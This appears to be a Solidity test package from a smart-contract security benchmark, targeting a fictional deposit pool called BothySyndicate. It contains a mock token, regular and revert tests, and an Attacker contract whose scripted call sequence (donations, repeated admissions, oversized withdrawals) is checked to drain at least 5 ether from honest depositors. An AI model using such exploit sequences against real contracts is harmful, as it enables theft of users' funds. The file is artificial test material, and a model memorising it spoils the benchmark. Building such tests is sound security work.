// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./BothySyndicate.sol";

// assay-canary-2681c389-4b14-498d-b085-4bb046b1eb66

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract HillCoin is IBothyCoin {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    constructor() {
        balanceOf[msg.sender] = 1e24;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Attacker {
    BothySyndicate internal bothy;
    HillCoin internal coin;
    uint256 internal first;

    constructor(BothySyndicate bothy_, HillCoin coin_) {
        (bothy, coin) = (bothy_, coin_);
        coin.approve(address(bothy), type(uint256).max);
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(bothy).call(data);
    }

    /// A single unit at the door, and another one for later.
    function come() external {
        first = bothy.arrivalCount();
        _try(abi.encodeCall(bothy.arrive, (1)));
        _try(abi.encodeCall(bothy.arrive, (1)));
        _try(abi.encodeCall(bothy.arrive, (0)));
        _try(abi.encodeCall(bothy.letIn, (0)));
        _try(abi.encodeCall(bothy.turnBack, (0)));
    }

    function run() external {
        _try(abi.encodeCall(bothy.letIn, (first)));
        // all shares but one out again
        uint256 held = bothy.sharesOf(address(this));
        if (held > 1) _try(abi.encodeCall(bothy.leave, (held - 1, 0)));
        // coins that are only sent, and coins that are paid for nights, before others are let in
        coin.transfer(address(bothy), 5 ether);
        _try(abi.encodeCall(bothy.payNights, (40 ether)));
        _try(abi.encodeCall(bothy.letIn, (0)));
        _try(abi.encodeCall(bothy.payNights, (40 ether)));
        _try(abi.encodeCall(bothy.letIn, (1)));
        // twice, for somebody else, and more than there is
        _try(abi.encodeCall(bothy.letIn, (0)));
        _try(abi.encodeCall(bothy.turnBack, (1)));
        _try(abi.encodeCall(bothy.letIn, (first + 1)));
        _try(abi.encodeCall(bothy.leave, (type(uint256).max, 0)));
        _try(abi.encodeCall(bothy.repair, ("lock", 1)));
        _try(abi.encodeCall(bothy.leave, (bothy.sharesOf(address(this)), 0)));
        _try(abi.encodeCall(bothy.turnBack, (first + 1)));
    }

    function later() external {
        _try(abi.encodeCall(bothy.leave, (bothy.sharesOf(address(this)), 0)));
        _try(abi.encodeCall(bothy.leave, (bothy.shares(), 0)));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    HillCoin private coin;
    BothySyndicate private bothy;
    Attacker private tramp;
    address private constant UNA = address(0x0A);
    address private constant VIC = address(0x51C);

    function setUp() public {
        vm.warp(1_768_000_000);
        coin = new HillCoin();
        bothy = new BothySyndicate(coin, address(0x3A4));
        tramp = new Attacker(bothy, coin);
        coin.transfer(address(tramp), 100 ether);
        coin.approve(address(bothy), type(uint256).max);
        _come(UNA, 20 ether);
        _come(VIC, 10 ether);
    }

    function _come(address who, uint256 coins) private {
        coin.transfer(who, coins);
        vm.prank(who);
        coin.approve(address(bothy), coins);
        vm.prank(who);
        bothy.arrive(coins);
    }

    function test_Regular() public {
        (bool ok, ) = address(bothy).call(abi.encodeCall(bothy.letIn, (0)));
        require(!ok, "too early");
        vm.warp(block.timestamp + 3 days);
        uint256 una = bothy.letIn(0);
        require(bothy.chest() == 20 ether && bothy.atTheDoor() == 10 ether && bothy.sharesOf(UNA) == una, "in");
        bothy.payNights(20 ether);
        bothy.letIn(1);
        uint256 vic = bothy.sharesOf(VIC);
        require(vic * 4 <= una + una / 1e6 && vic * 4 >= una - una / 1e6, "at twice the price");
        require(_near(bothy.toCoins(una), 40 ether) && _near(bothy.toCoins(vic), 10 ether), "worth");
        (ok, ) = address(bothy).call(abi.encodeCall(bothy.letIn, (1)));
        require(!ok, "once");

        vm.prank(UNA);
        (ok, ) = address(bothy).call(abi.encodeCall(bothy.leave, (una, 0)));
        require(!ok, "has to stay");
        vm.prank(address(0x3A4));
        bothy.repair("roof", 2 ether);
        vm.prank(address(0x3A4));
        (ok, ) = address(bothy).call(abi.encodeCall(bothy.repair, ("stove", 0.6 ether)));
        require(!ok, "a twentieth");
        vm.warp(block.timestamp + 30 days);
        vm.prank(address(0x3A4));
        bothy.repair("stove", 2.4 ether);
        require(coin.balanceOf(address(0x3A4)) == 4.4 ether, "repaired");

        vm.prank(VIC);
        (ok, ) = address(bothy).call(abi.encodeCall(bothy.leave, (vic, 10 ether)));
        require(!ok, "too few");
        vm.prank(VIC);
        bothy.leave(vic, 9 ether);
        require(_near(coin.balanceOf(VIC), 9.12 ether), "left");

        _come(VIC, 3 ether);
        vm.prank(VIC);
        bothy.turnBack(2);
        require(bothy.atTheDoor() == 0 && coin.balanceOf(address(bothy)) == bothy.chest(), "chest");
    }

    function _near(uint256 a, uint256 b) private pure returns (bool) {
        return a <= b && a + 1e10 >= b;
    }

    /// What the two can get out, from the door or from the chest.
    function recoverable() public view returns (uint256 sum) {
        for (uint256 id = 0; id < 2; ++id) {
            (, uint256 coins, ) = bothy.arrivals(id);
            sum += coins;
        }
        sum += bothy.toCoins(bothy.sharesOf(UNA)) + bothy.toCoins(bothy.sharesOf(VIC));
        sum += coin.balanceOf(UNA) + coin.balanceOf(VIC);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Nothing is no arrival, and only the warden repairs, within what is left.
    function test_RefusesRepairs() public {
        refuses(UNA, BothySyndicate.NoCoins.selector);
        bothy.arrive(0);
        vm.warp(block.timestamp + 3 days);
        uint256 all = bothy.letIn(0);
        refuses(UNA, BothySyndicate.WardenOnly.selector);
        bothy.repair("door", 1);
        refuses(address(0x3A4), abi.encodeWithSelector(BothySyndicate.BeyondRepair.selector, 1 ether));
        bothy.repair("door", 1 ether + 1);

        // what a period leaves may be more than the chest has by then
        vm.warp(block.timestamp + 30 days);
        vm.prank(address(0x3A4));
        bothy.repair("door", 0);
        vm.prank(UNA);
        bothy.leave(all, 0);
        refuses(address(0x3A4), abi.encodeWithSelector(BothySyndicate.BeyondRepair.selector, 1 ether));
        bothy.repair("door", 1 ether);
    }

    /// A coin that says no is believed.
    function test_RefusesFailedTransfers() public {
        coin.sleep(true);
        vm.expectRevert(BothySyndicate.CoinRefused.selector);
        bothy.payNights(1);
        refuses(UNA, BothySyndicate.CoinRefused.selector);
        bothy.turnBack(0);
    }

    function exploit() public {
        tramp.come();
        vm.warp(block.timestamp + 3 days);
        tramp.run();
        vm.warp(block.timestamp + 30 days);
        tramp.later();
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(before == 30 ether && recoverable() <= 25 ether, "all is there");
    }

    function target() public view returns (address) {
        return address(bothy);
    }

    function attacker() public view returns (address) {
        return address(tramp);
    }
}
